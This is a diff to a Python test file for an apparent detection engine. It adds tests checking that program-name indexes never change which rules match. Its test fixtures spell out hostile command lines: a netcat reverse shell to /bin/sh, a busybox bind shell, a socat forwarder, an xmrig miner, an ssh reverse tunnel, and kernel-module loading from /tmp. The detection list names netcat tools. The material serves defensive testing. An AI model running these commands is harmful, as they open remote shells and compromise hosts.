@@ -136,12 +136,32 @@ def test_event_scope_pairs_kinds_with_actions():
     assert event_scope("evt.kind = dns or not evt.action = query", macros) is None
 
 
-def test_the_kind_index_never_changes_a_judgement():
+def test_name_scope_bounds_the_programs_a_condition_can_match():
+    from corral.detect.condition import name_scope
+
+    macros = {"runs": "evt.kind = process or evt.kind = command", "nets": "proc.name in (nc_tools)"}
+    lists = {"nc_tools": ["nc", "ncat"]}
+    assert name_scope("runs and proc.name = socat", macros, lists) == {"socat"}
+    assert name_scope("runs and nets and proc.args in (-e)", macros, lists) == {"nc", "ncat"}
+    assert name_scope("proc.name in (nc_tools) and proc.name in (ncat, socat)", macros, lists) == {"ncat"}
+    assert name_scope("proc.name = ssh or nets", macros, lists) == {"ssh", "nc", "ncat"}
+    # a quoted string is a value, never a list's name (as the compiler reads it)
+    assert name_scope("proc.name = 'nc_tools'", macros, lists) == {"nc_tools"}
+    # nothing bounds a negation, another operator, a numeric comparison, or a branch naming no program
+    for text in ("not proc.name = nc", "proc.name != nc", "proc.name glob 'nc*'", "proc.name = 123",
+                 "proc.name = ssh or proc.cmdline contains socket", "runs"):
+        assert name_scope(text, macros, lists) is None, text
+
+
+def test_the_kind_and_program_indexes_never_change_a_judgement():
     """Every shipped rule judges an event of every kind and action the same with and without the
-    index that skips rules which cannot match that kind and action."""
+    indexes that skip rules which cannot match that kind and action, or that program."""
     d = Detector()
     argvs = [["true"], ["xmrig", "-o", "pool.example:3333"], ["ln", "-s", "/dev/null", "/workspace/tests"],
-             ["ssh", "-R", "2222:127.0.0.1:22", "t@203.0.113.7"], ["sh", "-c", "echo x > /proc/1/fd/0"]]
+             ["ssh", "-R", "2222:127.0.0.1:22", "t@203.0.113.7"], ["sh", "-c", "echo x > /proc/1/fd/0"],
+             ["nc", "-e", "/bin/sh", "203.0.113.10", "4444"], ["busybox", "nc", "-lp", "4444", "-e", "sh"],
+             ["socat", "tcp-listen:8080,fork", "tcp:203.0.113.10:80"], ["nmap", "-sT", "10.20.0.0/24"],
+             ["crontab", "/tmp/c"], ["insmod", "/tmp/x.ko"], ["nvidia-smi", "-pl", "300"]]
     events = []
     for kind in EventKind:
         for argv in argvs:
@@ -154,9 +174,9 @@ def test_the_kind_index_never_changes_a_judgement():
                                     data={"protected": ["/workspace/tests/*"], "redirects": ["/proc/1/fd/0"]}))
     from corral.detect.fields import getter
 
-    kinds_matched = set()
+    kinds_matched, named_matched = set(), set()
     for ev in events:
-        indexed = {r.id for r in d.ruleset.active_for(str(ev.kind), ev.action)}
+        indexed = {r.id for r in d.ruleset.for_program(str(ev.kind), ev.action, getter(ev)("proc.name"))}
         for rule in d.ruleset.active():
             try:
                 matched = bool(rule.pred(getter(ev)))
@@ -165,8 +185,11 @@ def test_the_kind_index_never_changes_a_judgement():
             assert not matched or rule.id in indexed, (rule.id, ev.kind, ev.action)
             if matched:
                 kinds_matched.add(str(ev.kind))
-    # the events do exercise rules of several kinds (the check above is not vacuous)
+                if rule.names is not None:
+                    named_matched.add(rule.id)
+    # the events do exercise rules of several kinds, and rules that name their programs (not vacuous)
     assert {"process", "command", "connect", "dns"} <= kinds_matched, kinds_matched
+    assert {"netcat-exec", "ssh-tunnel", "socat-forwarder"} <= named_matched, named_matched
 
 
 def test_threshold_counts_distinct_values_only_within_the_window(tmp_path):
